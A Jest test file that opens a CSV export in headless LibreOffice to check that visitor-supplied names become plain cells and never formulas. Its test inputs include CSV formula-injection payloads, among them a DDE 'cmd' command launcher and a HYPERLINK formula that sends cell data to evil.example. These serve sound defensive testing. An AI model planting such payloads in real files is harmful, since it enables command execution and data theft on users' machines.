import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from '@jest/globals';
import { csvHead, csvRows } from './csv.js';

const office = ['/usr/bin/soffice', '/usr/local/bin/soffice'].find((file) => existsSync(file)) ?? '';
const whereThereIsASpreadsheet = office === '' ? describe.skip : describe;

/** What LibreOffice makes of a CSV file: its cells as texts, row by row, and the formulas among them. */
function opened(csv: string): { readonly rows: readonly string[][]; readonly formulas: readonly string[] } {
  const folder = mkdtempSync(join(tmpdir(), 'northlight-csv-'));
  try {
    writeFileSync(join(folder, 'file.csv'), csv);
    // comma, quotation mark, UTF-8
    const profile = `-env:UserInstallation=file://${folder}/profile`;
    const convert = ['--headless', '--infilter=CSV:44,34,76', '--convert-to', 'fods', '--outdir', folder];
    execFileSync(office, [profile, ...convert, join(folder, 'file.csv')], { stdio: 'ignore' });
    return cellsIn(readFileSync(join(folder, 'file.fods'), 'utf8'));
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
}

function cellsIn(document: string) {
  const rows = [...document.matchAll(/<table:table-row[^>]*>(.*?)<\/table:table-row>/gs)].map(([, row = '']) =>
    [...row.matchAll(/<table:table-cell[^>]*?(?:\/>|>(.*?)<\/table:table-cell>)/gs)].map(([, cell = '']) =>
      cell.replace(/<[^>]*>/g, '').trim(),
    ),
  );
  return { rows, formulas: [...document.matchAll(/table:formula="([^"]*)"/g)].map(([, formula = '']) => formula) };
}

const command = "cmd|' /C calc'!A0";
const hostile = [
  ...[`=${command}`, `Eva\n=${command}`, `Eva\r=${command}`, `Eva\r\n=${command}`, `\t=${command}`],
  ...[' =1+2', '\u00A0=1+2', '\r=1+2', '+1+2', '-2-3', '@SUM(A1)', '＝1+2', '"\n=1+2', '",=1+2,"'],
  ...['=HYPERLINK("http://evil.example?x="&A1,"Click")', "'=1+1", '5551234\n-2-3', 'a;b\t=1+2'],
];

whereThereIsASpreadsheet('what visitors call themselves, opened in a spreadsheet', () => {
  it('is a cell each, and never a formula', () => {
    const written = hostile.map((name) => [name, 2, { dollars: -12.5 }]);
    const asItCame = '"=1+2","2","-12.5"\r\n';
    const { rows, formulas } = opened(csvHead(['name', 'seats', 'refund']) + csvRows(written) + asItCame);
    expect(formulas).toEqual(['of:=1+2']); // of the last row alone, which shows that they would be found
    expect(rows.map(({ length }) => length)).toEqual([3, ...written.map(() => 3), 3]);
    expect(rows.slice(1).map(([, seats, refund]) => [seats, refund])).toEqual(rows.slice(1).map(() => ['2', '-12.5']));
  });
});
